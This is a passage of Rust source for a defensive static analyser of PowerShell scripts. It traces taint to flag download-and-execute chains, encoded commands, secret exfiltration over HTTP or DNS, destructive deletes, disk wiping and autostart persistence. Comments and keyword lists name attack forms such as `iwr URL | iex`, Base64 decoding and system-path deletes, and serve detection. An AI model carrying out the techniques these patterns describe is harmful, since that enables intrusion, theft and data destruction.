//! PowerShell on its syntax tree: commands with their names resolved (case-insensitive,
//! aliases such as `iwr`, `irm`, `iex`, `rm`, `del`), parameters matched by unambiguous
//! prefix as PowerShell does (`-Recurse`, `-rec`, `-r`), and what flows through pipelines,
//! variables, `$(...)` and .NET calls: downloads run as code (`iwr URL | iex`, `iex (irm URL)`,
//! `& ([scriptblock]::Create(...))`: SUP020), decoded or hidden code run
//! (`[Convert]::FromBase64String`, `-EncodedCommand`: EXE020), secrets (`$env:GITHUB_TOKEN`,
//! credential files) sent with `Invoke-WebRequest`, `Invoke-RestMethod` or `Net.WebClient`
//! (EXF020) or in DNS names (EXF021), recursive deletes of a drive, the profile or a system
//! directory (DES020), disks formatted or cleared (DES021), autostart entries and scheduled
//! tasks (PER020) and payloads added to `$PROFILE` (PER022).
//!
//! Variables are by name for the whole file (PowerShell's are case-insensitive) and
//! flow-insensitive, as in the other analyses; a local function's parameters hold what any
//! call passed, and its output is what its statements produce.

use std::collections::{HashMap, HashSet};

use tree_sitter::Node;

use super::secrets::{self, credential_path};
use super::taint::{self, Taint, DECODED, DOWNLOAD, FILE, SECRET};
use super::Hit;
use crate::guard::rule::Rule;
use crate::guard::rules::{
    destructive::{DES020, DES021},
    execution::EXE020,
    exfiltration::{EXF020, EXF021},
    persistence::{PER020, PER022},
    supply_chain::SUP020,
};

const PASSES: usize = 4;
/// Recursion followed. Wrappers with a single child (PowerShell's grammar nests each
/// expression a dozen levels deep) are walked in a loop and do not count.
const MAX_DEPTH: usize = 150;
const MAX_NODES: usize = 400_000;
const MAX_TEXT: usize = 4096;
/// `powershell -Command "..."` strings analysed as PowerShell, at most this deep.
const MAX_NESTING: usize = 2;

fn parse(text: &str) -> Option<tree_sitter::Tree> {
    super::parse::parse(super::parse::Grammar::PowerShell, text)
}

#[derive(Debug, Clone, Default)]
struct Val {
    taint: Taint,
    /// The string it holds, when known (paths and URLs are judged by it).
    text: Option<String>,
    /// A `Net.WebClient` (or `WebRequest`) object: its methods download and upload.
    web_client: bool,
}

impl Val {
    fn text(t: &str) -> Val {
        Val {
            text: (t.len() <= MAX_TEXT).then(|| t.to_owned()),
            ..Val::default()
        }
    }
    fn taint(t: Taint) -> Val {
        Val {
            taint: t,
            ..Val::default()
        }
    }
}

pub fn analyze(text: &str, out: &mut Vec<Hit>) {
    analyze_nested(text, 0, out);
}

fn analyze_nested(text: &str, nesting: usize, out: &mut Vec<Hit>) {
    // Parsed strings of `powershell -Command` reuse the thread's parser: the outer tree is
    // done with by then, because nested strings are analysed after the walk.
    let Some(tree) = parse(text) else { return };
    let mut a = Analysis {
        src: text,
        vars: HashMap::new(),
        functions: HashMap::new(),
        returns: HashMap::new(),
        report: false,
        hits: Vec::new(),
        seen: HashSet::new(),
        nested: Vec::new(),
        nodes: 0,
        level: 0,
        function: None,
        changed: false,
    };
    a.collect_functions(tree.root_node(), 0);
    for _ in 0..PASSES {
        a.changed = false;
        a.nodes = 0;
        a.eval(tree.root_node());
        if !a.changed {
            break;
        }
    }
    a.report = true;
    a.nodes = 0;
    a.eval(tree.root_node());
    let nested = std::mem::take(&mut a.nested);
    out.extend(a.hits);
    drop(tree);
    if nesting < MAX_NESTING {
        for (script, start, end) in nested {
            let mut inner = Vec::new();
            analyze_nested(&script, nesting + 1, &mut inner);
            out.extend(inner.into_iter().map(|h| Hit { start, end, ..h }));
        }
    }
}

struct Analysis<'s> {
    src: &'s str,
    /// Lower-case name without `$` -> what it may hold.
    vars: HashMap<String, Val>,
    /// Lower-case function name -> its parameters' names.
    functions: HashMap<String, Vec<String>>,
    /// Lower-case function name -> what its output may hold.
    returns: HashMap<String, Taint>,
    report: bool,
    hits: Vec<Hit>,
    seen: HashSet<(usize, &'static str)>,
    /// `powershell -Command` strings to analyse, with the place of the command.
    nested: Vec<(String, usize, usize)>,
    nodes: usize,
    level: usize,
    function: Option<String>,
    changed: bool,
}

/// A command's canonical lower-case name: aliases resolved, `.exe` and a module path
/// dropped.
fn canonical(name: &str) -> String {
    let lower = name.to_ascii_lowercase();
    let base = lower.rsplit(['\\', '/']).next().unwrap_or(&lower);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    match base {
        "iwr" | "curl" | "wget" => "invoke-webrequest",
        "irm" => "invoke-restmethod",
        "iex" => "invoke-expression",
        "icm" => "invoke-command",
        "gc" | "cat" | "type" | "get-content" => "get-content",
        "rm" | "ri" | "del" | "erase" | "rd" | "rmdir" => "remove-item",
        "sp" => "set-itemproperty",
        "ac" => "add-content",
        "sc" => "set-content",
        "gci" | "ls" | "dir" => "get-childitem",
        "cpi" | "copy" | "cp" => "copy-item",
        "mi" | "move" | "mv" => "move-item",
        "ni" => "new-item",
        "saps" | "start" => "start-process",
        "pwsh" => "powershell",
        other => other,
    }
    .to_owned()
}

/// Switch parameters of the commands this module reads: a switch takes no value, so the
/// next argument is positional.
const SWITCHES: &[&str] = &[
    "recurse",
    "force",
    "usebasicparsing",
    "usedefaultcredentials",
    "passthru",
    "whatif",
    "confirm",
    "verbose",
    "debug",
    "nonewline",
    "append",
    "noprofile",
    "noninteractive",
    "nologo",
    "noexit",
    "skipcertificatecheck",
    "disablekeepalive",
    "asjob",
    "raw",
    "wait",
    "full",
    "sta",
    "mta",
];

/// A parameter as written (`-Rec`, `-r:`) matches `full` when it is a prefix of it at least
/// `min` letters long, case-insensitively.
fn param_is(written: &str, full: &str, min: usize) -> bool {
    let p = written
        .trim_start_matches('-')
        .trim_end_matches(':')
        .to_ascii_lowercase();
    p.len() >= min && full.starts_with(&p)
}

/// A command's parameters and positional arguments.
struct Args<'t> {
    named: Vec<(String, Option<(Node<'t>, Val)>)>,
    positional: Vec<(Node<'t>, Val)>,
}

impl<'t> Args<'t> {
    fn get(&self, full: &str, min: usize) -> Option<&(Node<'t>, Val)> {
        self.named
            .iter()
            .find(|(n, _)| param_is(n, full, min))
            .and_then(|(_, v)| v.as_ref())
    }
    fn has(&self, full: &str, min: usize) -> bool {
        self.named.iter().any(|(n, _)| param_is(n, full, min))
    }
    /// A named value, or the positional one at `index`.
    fn value(&self, full: &str, min: usize, index: usize) -> Option<&(Node<'t>, Val)> {
        self.get(full, min).or_else(|| self.positional.get(index))
    }
    fn all(&self) -> Taint {
        let mut t = Taint::default();
        for (_, v) in self.named.iter().filter_map(|(_, v)| v.as_ref()) {
            t.add(&v.taint);
        }
        for (_, v) in &self.positional {
            t.add(&v.taint);
        }
        t
    }
}

/// A path with `\` as `/`, for the checks shared with the other analyses.
fn slashes(p: &str) -> String {
    p.replace('\\', "/")
}

/// Whether a recursive delete of this path destroys a drive, the home directory or the
/// system.
fn dangerous_delete(path: &str) -> bool {
    let mut p = slashes(path.trim_matches(['"', '\''])).to_ascii_lowercase();
    loop {
        let t = p.trim_end_matches(['*', '/', '.']);
        if t.len() == p.len() {
            break;
        }
        p = t.to_owned();
    }
    if let Some(rest) = p.strip_prefix("$home") {
        p = format!("~{rest}");
    }
    let drive = p.len() == 2 && p.as_bytes()[0].is_ascii_alphabetic() && p.ends_with(':');
    drive
        || p.is_empty()
        || p == "~"
        || matches!(
            p.as_str(),
            "c:/windows"
                | "c:/windows/system32"
                | "c:/program files"
                | "c:/program files (x86)"
                | "c:/programdata"
                | "c:/users"
                | "~/documents"
                | "~/desktop"
                | "/etc"
                | "/usr"
                | "/bin"
                | "/var"
                | "/home"
                | "/boot"
                | "/lib"
                | "/users"
                | "/system"
        )
}

/// What `$env:NAME` holds as far as paths go, and whether it is a secret.
fn env_var(name: &str) -> Val {
    let upper = name.to_ascii_uppercase();
    match upper.as_str() {
        "USERPROFILE" | "HOME" => Val::text("~"),
        "SYSTEMROOT" | "WINDIR" => Val::text("C:\\Windows"),
        "SYSTEMDRIVE" | "HOMEDRIVE" => Val::text("C:"),
        "PROGRAMFILES" => Val::text("C:\\Program Files"),
        "APPDATA" => Val::text("~\\AppData\\Roaming"),
        "LOCALAPPDATA" => Val::text("~\\AppData\\Local"),
        _ if secrets::secret_name(name) => Val::taint(Taint::secret(name)),
        _ => Val::default(),
    }
}

/// Whether text written to the profile does more than configure the shell: downloads, runs
/// strings, decodes or opens sockets (as PER022 judges shell startup files).
fn payload_words(text: &str) -> bool {
    let l = text.to_ascii_lowercase();
    [
        "iwr ",
        "irm ",
        "invoke-webrequest",
        "invoke-restmethod",
        "downloadstring",
        "downloadfile",
        "net.webclient",
        "iex",
        "invoke-expression",
        "frombase64string",
        "-enc",
        "tcpclient",
        "net.sockets",
        "start-bitstransfer",
    ]
    .iter()
    .any(|w| l.contains(w))
}

fn profile_path(p: &str) -> bool {
    let l = slashes(p).to_ascii_lowercase();
    l.starts_with("$profile") || l.ends_with("profile.ps1")
}

fn run_key(p: &str) -> bool {
    let l = slashes(p).to_ascii_lowercase();
    l.contains("currentversion/run") || l.contains("currentversion/policies/explorer/run")
}

fn startup_folder(p: &str) -> bool {
    let l = slashes(p).to_ascii_lowercase();
    l.contains("start menu/programs/startup") || l.contains("shell:startup")
}

impl<'s> Analysis<'s> {
    fn text(&self, n: Node) -> &'s str {
        &self.src[n.byte_range()]
    }

    fn hit(&mut self, rule: &'static Rule, n: Node) {
        if self.report && self.seen.insert((n.start_byte(), rule.id)) {
            self.hits.push(Hit {
                rule,
                start: n.start_byte(),
                end: n.end_byte(),
            });
        }
    }

    fn run_code(&mut self, n: Node, t: &Taint) {
        if t.has(DOWNLOAD) {
            self.hit(&SUP020, n);
        } else if t.has(DECODED) || t.has(FILE) {
            self.hit(&EXE020, n);
        }
    }

    fn collect_functions(&mut self, n: Node, depth: usize) {
        if depth > MAX_DEPTH * 4 {
            return;
        }
        if n.kind() == "function_statement" {
            let name = first_child(n, "function_name").map(|x| self.text(x).to_ascii_lowercase());
            if let Some(name) = name {
                let mut params = Vec::new();
                self.variables_in(n, &mut params, 0);
                self.functions.insert(name, params);
            }
        }
        let mut c = n.walk();
        let children: Vec<Node> = n.named_children(&mut c).collect();
        for ch in children {
            self.collect_functions(ch, depth + 1);
        }
    }

    /// Parameter names of a function: its `($a, $b)` or `param($a, $b)`.
    fn variables_in(&self, n: Node, out: &mut Vec<String>, depth: usize) {
        if depth > 40 || out.len() > 32 {
            return;
        }
        let mut c = n.walk();
        for ch in n.named_children(&mut c) {
            match ch.kind() {
                "script_parameter" | "class_method_parameter" => {
                    if let Some(v) = first_child(ch, "variable") {
                        out.push(var_name(self.text(v)));
                    }
                }
                "function_parameter_declaration"
                | "parameter_list"
                | "param_block"
                | "script_block" => self.variables_in(ch, out, depth + 1),
                _ => {}
            }
        }
    }

    fn bind(&mut self, name: &str, v: &Val) {
        let entry = self.vars.entry(name.to_owned()).or_default();
        let before = (entry.taint.clone(), entry.web_client);
        entry.taint.add(&v.taint);
        entry.web_client |= v.web_client;
        if v.text.is_some() {
            entry.text = v.text.clone();
        }
        if (entry.taint.clone(), entry.web_client) != before {
            self.changed = true;
        }
    }

    fn eval(&mut self, n: Node) -> Val {
        self.nodes += 1;
        if self.nodes > MAX_NODES || self.level > MAX_DEPTH {
            return Val::default();
        }
        // Single-child wrappers are walked through without recursion.
        let mut n = n;
        while n.named_child_count() == 1 && wrapper(n.kind()) {
            match n.named_child(0) {
                Some(c) => n = c,
                None => break,
            }
            self.nodes += 1;
        }
        self.level += 1;
        let v = self.eval_inner(n);
        self.level -= 1;
        v
    }

    fn eval_all(&mut self, n: Node) -> Val {
        let mut c = n.walk();
        let parts: Vec<Node> = n
            .named_children(&mut c)
            .filter(|p| !matches!(p.kind(), "command_argument_sep" | "comment"))
            .collect();
        // One part (`redirected_file_name` is a separator and its value): its value.
        if parts.len() == 1 {
            return self.eval(parts[0]);
        }
        let mut v = Val::default();
        for p in parts {
            let x = self.eval(p);
            v.taint.add(&x.taint);
            v.web_client |= x.web_client;
        }
        v
    }

    fn eval_inner(&mut self, n: Node) -> Val {
        match n.kind() {
            "comment" | "integer_literal" | "real_literal" => Val::default(),
            "variable" => self.variable(n),
            "string_literal"
            | "expandable_string_literal"
            | "verbatim_string_characters"
            | "expandable_here_string_literal"
            | "verbatim_here_string_characters" => self.string(n),
            "generic_token" => Val::text(self.text(n)),
            "pipeline" => self.pipeline(n),
            "assignment_expression" => {
                let value = n.child_by_field_name("value");
                let v = value.map(|x| self.eval(x)).unwrap_or_default();
                let op = first_child(n, "assignement_operator").map(|o| self.text(o));
                if let Some(l) = first_child(n, "left_assignment_expression") {
                    if let Some(var) = find_variable(l) {
                        let name = var_name(self.text(var));
                        let mut v = v;
                        if op.is_some_and(|o| o != "=") {
                            v.text = None;
                        }
                        self.bind(&name, &v);
                    }
                }
                Val::default()
            }
            "function_statement" => {
                let name =
                    first_child(n, "function_name").map(|x| self.text(x).to_ascii_lowercase());
                let saved = self.function.take();
                self.function = name.clone();
                let v = first_child(n, "script_block")
                    .map(|b| self.eval(b))
                    .unwrap_or_default();
                self.function = saved;
                if let Some(name) = name {
                    let entry = self.returns.entry(name).or_default();
                    let before = entry.clone();
                    entry.add(&v.taint);
                    if *entry != before {
                        self.changed = true;
                    }
                }
                Val::default()
            }
            "foreach_statement" => {
                let mut c = n.walk();
                let parts: Vec<Node> = n.named_children(&mut c).collect();
                let var = parts.iter().find(|p| p.kind() == "variable").copied();
                let source = parts.iter().find(|p| p.kind() == "pipeline").copied();
                if let (Some(var), Some(src)) = (var, source) {
                    let v = self.eval(src);
                    self.bind(&var_name(self.text(var)), &Val::taint(v.taint));
                }
                for p in parts {
                    if p.kind() == "statement_block" {
                        self.eval(p);
                    }
                }
                Val::default()
            }
            "additive_expression" | "additive_argument_expression" => {
                let mut c = n.walk();
                let parts: Vec<Node> = n.named_children(&mut c).collect();
                let mut out = Val::text("");
                for p in parts {
                    let v = self.eval(p);
                    out.taint.add(&v.taint);
                    match (&mut out.text, v.text) {
                        (Some(t), Some(s)) if t.len() + s.len() <= MAX_TEXT => t.push_str(&s),
                        (t, _) => {
                            if t.as_deref().is_some_and(|x| x.contains("://")) {
                                if let Some(x) = t.as_mut() {
                                    x.push_str("{}");
                                }
                            } else {
                                *t = None;
                            }
                        }
                    }
                }
                out
            }
            "invokation_expression" => self.invocation(n),
            "member_access" => {
                let obj = n.named_child(0);
                let member = n
                    .named_child(1)
                    .map(|m| self.text(m).to_ascii_lowercase())
                    .unwrap_or_default();
                let recv_text = obj
                    .map(|o| self.text(o).to_ascii_lowercase())
                    .unwrap_or_default();
                if recv_text.contains("environment") && member == "getenvironmentvariables" {
                    return Val::taint(Taint::secret(taint::ENVIRONMENT));
                }
                let v = obj.map(|o| self.eval(o)).unwrap_or_default();
                Val::taint(v.taint)
            }
            "command" => {
                let (v, _) = self.command(n, &Taint::default());
                v
            }
            "redirection" => Val::default(),
            _ => self.eval_all(n),
        }
    }

    fn variable(&self, n: Node) -> Val {
        let raw = self.text(n);
        let name = var_name(raw);
        if let Some(e) = name.strip_prefix("env:") {
            return env_var(e);
        }
        match name.as_str() {
            "home" => return Val::text("~"),
            "profile" => return Val::text("$PROFILE"),
            _ => {}
        }
        self.vars.get(&name).cloned().unwrap_or_default()
    }

    /// A string's value: the constant parts, variables and `$(...)` spliced in when known.
    fn string(&mut self, n: Node) -> Val {
        let raw = self.text(n);
        if raw.starts_with('\'')
            || raw.starts_with("@'")
            || n.kind() == "verbatim_string_characters"
        {
            let inner = raw
                .trim_start_matches('@')
                .trim_start_matches('\'')
                .trim_end_matches('@')
                .trim_end_matches('\'');
            return Val::text(&inner.replace("''", "'"));
        }
        // Expandable: walk the pieces between the children.
        let mut out = String::new();
        let mut taint = Taint::default();
        let mut constant = true;
        let mut at = n.start_byte();
        let mut c = n.walk();
        let parts: Vec<Node> = n.named_children(&mut c).collect();
        let mut pieces: Vec<(usize, usize, Option<String>)> = Vec::new();
        for p in parts {
            if p.kind() == "expandable_string_literal"
                || p.kind() == "expandable_here_string_literal"
            {
                return self.string(p);
            }
            let v = self.eval(p);
            taint.add(&v.taint);
            pieces.push((p.start_byte(), p.end_byte(), v.text));
        }
        for (s, e, t) in pieces {
            out.push_str(&unbacktick(&self.src[at.min(s)..s]));
            match t {
                Some(t) => out.push_str(&t),
                None => {
                    constant = false;
                    out.push_str("{}");
                }
            }
            at = e;
        }
        out.push_str(&unbacktick(&self.src[at.min(n.end_byte())..n.end_byte()]));
        let out = out
            .trim_start_matches('@')
            .trim_start_matches('"')
            .trim_end_matches('@')
            .trim_end_matches('"')
            .to_owned();
        Val {
            taint,
            text: (constant || out.contains("://") || out.starts_with('~'))
                .then_some(out)
                .filter(|t| t.len() <= MAX_TEXT),
            web_client: false,
        }
    }

    /// A pipeline: each stage's output is the next one's input.
    fn pipeline(&mut self, n: Node) -> Val {
        let mut c = n.walk();
        let parts: Vec<Node> = n.named_children(&mut c).collect();
        let mut last = Val::default();
        for part in parts {
            match part.kind() {
                "pipeline_chain" => {
                    let mut c2 = part.walk();
                    let stages: Vec<Node> = part.named_children(&mut c2).collect();
                    let mut cur = Val::default();
                    for s in stages {
                        match s.kind() {
                            "command" => {
                                let (v, _) = self.command(s, &cur.taint);
                                cur = v;
                            }
                            "redirections" => self.redirections(s, &cur),
                            _ => cur = self.eval(s),
                        }
                    }
                    last = cur;
                }
                "pipeline_chain_tail" => {}
                _ => last = self.eval(part),
            }
        }
        if let Some(f) = self.function.clone() {
            let entry = self.returns.entry(f).or_default();
            let before = entry.clone();
            entry.add(&last.taint);
            if *entry != before {
                self.changed = true;
            }
        }
        last
    }

    /// `... > $PROFILE`, `... >> $PROFILE`.
    fn redirections(&mut self, n: Node, what: &Val) {
        let mut c = n.walk();
        let parts: Vec<Node> = n.named_children(&mut c).collect();
        for r in parts {
            if let Some(f) = first_child(r, "redirected_file_name") {
                let target = self.eval(f);
                self.written(r, target.text.as_deref(), what, None);
            }
        }
    }

    /// A write of `what` (spelled `literal` when known) to `path`.
    fn written(&mut self, n: Node, path: Option<&str>, what: &Val, literal: Option<&str>) {
        let Some(p) = path else { return };
        if profile_path(p) {
            let text = literal.or(what.text.as_deref()).unwrap_or("");
            if payload_words(text) || what.taint.has(DOWNLOAD) || what.taint.has(DECODED) {
                self.hit(&PER022, n);
            }
        }
        if startup_folder(p) {
            self.hit(&PER020, n);
        }
    }

    /// Runs a command with `stdin` flowing in; returns its output and its canonical name.
    fn command(&mut self, n: Node, stdin: &Taint) -> (Val, String) {
        let name_node = n.child_by_field_name("command_name");
        let invoked = first_child(n, "command_invokation_operator").is_some();
        let raw_name = name_node.map(|x| self.text(x)).unwrap_or("");
        let name = canonical(raw_name.trim_matches(['"', '\'']));
        // `$_` in a script block argument is what flows in.
        if stdin.flags != 0 {
            self.bind("_", &Val::taint(stdin.clone()));
            self.bind("psitem", &Val::taint(stdin.clone()));
        }
        let elements = n.child_by_field_name("command_elements");
        let mut named: Vec<(String, Option<(Node, Val)>)> = Vec::new();
        let mut positional: Vec<(Node, Val)> = Vec::new();
        let mut redirects: Vec<Node> = Vec::new();
        if let Some(el) = elements {
            let mut c = el.walk();
            let items: Vec<Node> = el.named_children(&mut c).collect();
            let mut pending: Option<(String, bool)> = None;
            // Whether the last argument went to a parameter (for a method call's argument
            // list that follows it).
            let mut last_named = false;
            for it in items {
                match it.kind() {
                    "command_parameter" => {
                        if let Some((p, _)) = pending.take() {
                            named.push((p, None));
                        }
                        let p = self.text(it).to_owned();
                        let lower = p.trim_start_matches('-').to_ascii_lowercase();
                        let switch =
                            !lower.is_empty() && SWITCHES.iter().any(|s| s.starts_with(&lower));
                        if switch {
                            named.push((p, None));
                        } else {
                            pending = Some((p, false));
                        }
                    }
                    "command_argument_sep" => {
                        // `-Recurse:$true`: a colon binds the value to the parameter.
                        if self.text(it).contains(':') {
                            if let Some((p, _)) = named.last().cloned().filter(|(_, v)| v.is_none())
                            {
                                named.pop();
                                pending = Some((p, true));
                            }
                        }
                    }
                    "redirection" => redirects.push(it),
                    "stop_parsing" | "comment" => {}
                    "argument_list" => {
                        // `(New-Object Net.WebClient).DownloadString(u)` as an argument: the
                        // member access before it is called with it.
                        let last = if last_named {
                            named.last().and_then(|(_, v)| v.as_ref()).map(|(n, _)| *n)
                        } else {
                            positional.last().map(|(n, _)| *n)
                        };
                        let call = last.and_then(|node| {
                            let mut m = node;
                            while m.kind() != "member_access" && m.named_child_count() == 1 {
                                m = m.named_child(0)?;
                            }
                            (m.kind() == "member_access")
                                .then_some(m)
                                .and_then(|m| Some((m, m.named_child(0)?, m.named_child(1)?)))
                        });
                        match call {
                            Some((m, recv, name)) => {
                                let v = self.invoke(m, recv, name, Some(it));
                                let slot = if last_named {
                                    named.last_mut().and_then(|(_, v)| v.as_mut())
                                } else {
                                    positional.last_mut()
                                };
                                if let Some(slot) = slot {
                                    slot.1 = v;
                                }
                            }
                            None => {
                                let v = self.eval(it);
                                positional.push((it, v));
                                last_named = false;
                            }
                        }
                    }
                    _ => {
                        let v = self.eval(it);
                        match pending.take() {
                            Some((p, _)) => {
                                named.push((p, Some((it, v))));
                                last_named = true;
                            }
                            None => {
                                positional.push((it, v));
                                last_named = false;
                            }
                        }
                    }
                }
            }
            if let Some((p, _)) = pending {
                named.push((p, None));
            }
        }
        let args = Args { named, positional };
        let mut all = args.all();
        let out = self.command_semantics(n, &name, invoked, name_node, &args, stdin, &mut all);
        for r in redirects {
            if let Some(f) = first_child(r, "redirected_file_name") {
                let target = self.eval(f);
                self.written(r, target.text.as_deref(), &out, None);
            }
        }
        (out, name)
    }

    #[allow(clippy::too_many_arguments)]
    fn command_semantics(
        &mut self,
        n: Node,
        name: &str,
        invoked: bool,
        name_node: Option<Node>,
        args: &Args,
        stdin: &Taint,
        all: &mut Taint,
    ) -> Val {
        let text_of = |x: Option<&(Node, Val)>| x.and_then(|(_, v)| v.text.clone());
        if invoked {
            // `& $sb`, `& ([scriptblock]::Create($code))`, `. $script`.
            if let Some(nn) = name_node {
                let v = self.eval(nn);
                self.run_code(n, &v.taint);
                return Val::taint(v.taint.union(all));
            }
        }
        match name {
            "invoke-webrequest" | "invoke-restmethod" | "start-bitstransfer" => {
                let uri = args.value("uri", 2, 0).or_else(|| args.get("source", 2));
                let url = text_of(uri);
                let mut data = uri.map(|(_, v)| v.taint.clone()).unwrap_or_default();
                if let Some((_, v)) = args.get("body", 1) {
                    data.add(&v.taint);
                }
                if let Some((_, v)) = args.get("infile", 3) {
                    data.add(&v.taint);
                    data.add(&self.file_taint(v.text.as_deref()));
                }
                data.add(stdin);
                let header = args
                    .get("headers", 2)
                    .map(|(_, v)| v.taint.clone())
                    .unwrap_or_default();
                if taint::exfiltration(&data, &header, url.as_deref()) {
                    self.hit(&EXF020, n);
                }
                Val::taint(Taint::of(DOWNLOAD))
            }
            "invoke-expression" => {
                let mut t = stdin.clone();
                if let Some((_, v)) = args.value("command", 1, 0) {
                    t.add(&v.taint);
                }
                self.run_code(n, &t);
                Val::taint(t)
            }
            "invoke-command" | "start-job" => {
                if let Some((_, v)) = args.get("scriptblock", 1) {
                    self.run_code(n, &v.taint);
                }
                Val::taint(all.clone())
            }
            "get-content" | "import-clixml" => {
                let p = text_of(
                    args.value("path", 1, 0)
                        .or_else(|| args.get("literalpath", 1)),
                );
                let mut t = all.clone();
                t.add(&self.file_taint(p.as_deref()));
                Val::taint(t)
            }
            "get-childitem" => {
                let p = text_of(args.value("path", 1, 0)).unwrap_or_default();
                if p.to_ascii_lowercase().trim_end_matches(['\\', '/', '*']) == "env:" {
                    return Val::taint(Taint::secret(taint::ENVIRONMENT));
                }
                Val::taint(all.clone())
            }
            "powershell" | "cmd" => {
                if args
                    .named
                    .iter()
                    .any(|(p, _)| param_is(p, "encodedcommand", 1) || param_is(p, "ec", 2))
                {
                    self.hit(&EXE020, n);
                }
                let script = args.value("command", 1, 0);
                if let Some((_, v)) = script {
                    self.run_code(n, &v.taint);
                    if let Some(t) = &v.text {
                        if self.report && name == "powershell" {
                            self.nested.push((t.clone(), n.start_byte(), n.end_byte()));
                        }
                    }
                }
                Val::taint(all.clone())
            }
            "resolve-dnsname" | "nslookup" | "ping" | "test-connection" => {
                if let Some((_, v)) = args.value("name", 1, 0) {
                    if v.taint.has(SECRET) {
                        self.hit(&EXF021, n);
                    }
                }
                Val::taint(all.clone())
            }
            "remove-item" => {
                let recurse = args.has("recurse", 1);
                let path = text_of(
                    args.value("path", 1, 0)
                        .or_else(|| args.get("literalpath", 1)),
                );
                if recurse && path.as_deref().is_some_and(dangerous_delete) {
                    self.hit(&DES020, n);
                }
                Val::default()
            }
            "format-volume" | "clear-disk" | "remove-partition" | "initialize-disk" => {
                self.hit(&DES021, n);
                Val::default()
            }
            "new-itemproperty" | "set-itemproperty" | "new-item" | "set-item" => {
                let p = text_of(args.value("path", 1, 0)).unwrap_or_default();
                if run_key(&p) && name.contains("property") {
                    self.hit(&PER020, n);
                }
                if startup_folder(&p) {
                    self.hit(&PER020, n);
                }
                Val::default()
            }
            "reg" => {
                let words: Vec<String> = args
                    .positional
                    .iter()
                    .filter_map(|(_, v)| v.text.clone())
                    .collect();
                if words.first().is_some_and(|w| w.eq_ignore_ascii_case("add"))
                    && words.get(1).is_some_and(|k| run_key(k))
                {
                    self.hit(&PER020, n);
                }
                Val::default()
            }
            "register-scheduledtask" | "new-service" => {
                self.hit(&PER020, n);
                Val::default()
            }
            "schtasks" => {
                let create = args
                    .positional
                    .iter()
                    .chain(args.named.iter().filter_map(|(_, v)| v.as_ref()))
                    .any(|(node, _)| self.text(*node).eq_ignore_ascii_case("/create"))
                    || self.text(n).to_ascii_lowercase().contains("/create");
                if create {
                    self.hit(&PER020, n);
                }
                Val::default()
            }
            "add-content" | "set-content" | "out-file" | "copy-item" | "move-item" => {
                let path = if name == "out-file" {
                    text_of(args.value("filepath", 1, 0))
                } else if name.ends_with("-item") {
                    text_of(args.value("destination", 1, 1))
                } else {
                    text_of(args.value("path", 1, 0))
                };
                let value = args
                    .value("value", 1, 1)
                    .or_else(|| args.get("inputobject", 1));
                let mut what = value.map(|(_, v)| v.clone()).unwrap_or_default();
                what.taint.add(stdin);
                self.written(n, path.as_deref(), &what, None);
                Val::default()
            }
            "new-object" => {
                let t = text_of(args.value("typename", 1, 0))
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                Val {
                    taint: all.clone(),
                    web_client: t.ends_with("webclient"),
                    ..Val::default()
                }
            }
            _ => {
                if let Some(params) = self.functions.get(name).cloned() {
                    // A local function: arguments flow into its parameters.
                    for (i, (_, v)) in args.positional.iter().enumerate() {
                        if let Some(p) = params.get(i) {
                            self.bind(p, &Val::taint(v.taint.clone()));
                        }
                    }
                    for (p, v) in &args.named {
                        if let Some((_, v)) = v {
                            let written = var_name(p.trim_start_matches('-').trim_end_matches(':'));
                            if let Some(param) = params.iter().find(|q| q.starts_with(&written)) {
                                self.bind(&param.clone(), &Val::taint(v.taint.clone()));
                            }
                        }
                    }
                    return Val::taint(self.returns.get(name).cloned().unwrap_or_default());
                }
                Val::taint(all.clone().union(stdin))
            }
        }
    }

    fn file_taint(&self, path: Option<&str>) -> Taint {
        match path {
            Some(p) if credential_path(&slashes(p)) => Taint::secret(taint::CREDENTIAL_FILE),
            Some(p) => {
                let l = p.to_ascii_lowercase();
                let code = [
                    ".ps1", ".psm1", ".psd1", ".json", ".xml", ".csv", ".md", ".txt", ".yml",
                    ".yaml",
                ];
                if code.iter().any(|e| l.ends_with(e)) {
                    Taint::default()
                } else {
                    Taint::of(FILE)
                }
            }
            None => Taint::of(FILE),
        }
    }

    /// `X.Method(args)`, `[Type]::Method(args)`.
    fn invocation(&mut self, n: Node) -> Val {
        let mut c = n.walk();
        let parts: Vec<Node> = n.named_children(&mut c).collect();
        let (Some(recv), Some(member)) = (parts.first().copied(), parts.get(1).copied()) else {
            return self.eval_all(n);
        };
        let list = parts.iter().find(|p| p.kind() == "argument_list").copied();
        self.invoke(n, recv, member, list)
    }

    /// A method call: `recv.member(list)` (also spelled as a command argument followed by
    /// its argument list: `iex (New-Object Net.WebClient).DownloadString(u)`).
    fn invoke(&mut self, n: Node, recv: Node, member: Node, list: Option<Node>) -> Val {
        let method = self.text(member).to_ascii_lowercase();
        let recv_text = self.text(recv).to_ascii_lowercase();
        let rv = self.eval(recv);
        let mut args: Vec<Val> = Vec::new();
        if let Some(list) = list {
            if let Some(el) = list.named_child(0) {
                let mut c2 = el.walk();
                let items: Vec<Node> = el.named_children(&mut c2).collect();
                for it in items {
                    args.push(self.eval(it));
                }
            }
        }
        let mut all = rv.taint.clone();
        for a in &args {
            all.add(&a.taint);
        }
        let arg_text = |i: usize| args.get(i).and_then(|a| a.text.clone());
        let arg_taint = |i: usize| args.get(i).map(|a| a.taint.clone()).unwrap_or_default();
        match method.as_str() {
            "frombase64string" | "decompress" | "fromhexstring" => {
                all.flags |= DECODED;
                Val::taint(all)
            }
            "downloadstring" | "downloaddata" | "downloadfile" | "openread" | "getstringasync"
            | "getasync" | "create"
                if method != "create" || recv_text.contains("webrequest") =>
            {
                let url = arg_text(0);
                if taint::exfiltration(&arg_taint(0), &Taint::default(), url.as_deref()) {
                    self.hit(&EXF020, n);
                }
                all.flags |= DOWNLOAD;
                Val::taint(all)
            }
            "uploadstring" | "uploaddata" | "uploadvalues" | "uploadfile" | "postasync"
            | "putasync" | "sendasync" => {
                let url = arg_text(0);
                let mut data = Taint::default();
                for a in args.iter().skip(1) {
                    data.add(&a.taint);
                }
                data.add(&arg_taint(0));
                if method == "uploadfile" {
                    data.add(&self.file_taint(arg_text(args.len().saturating_sub(1)).as_deref()));
                }
                if taint::exfiltration(&data, &Taint::default(), url.as_deref()) {
                    self.hit(&EXF020, n);
                }
                Val::taint(Taint::of(DOWNLOAD))
            }
            "invoke" | "invokereturnasis" => {
                self.run_code(n, &rv.taint);
                Val::taint(all)
            }
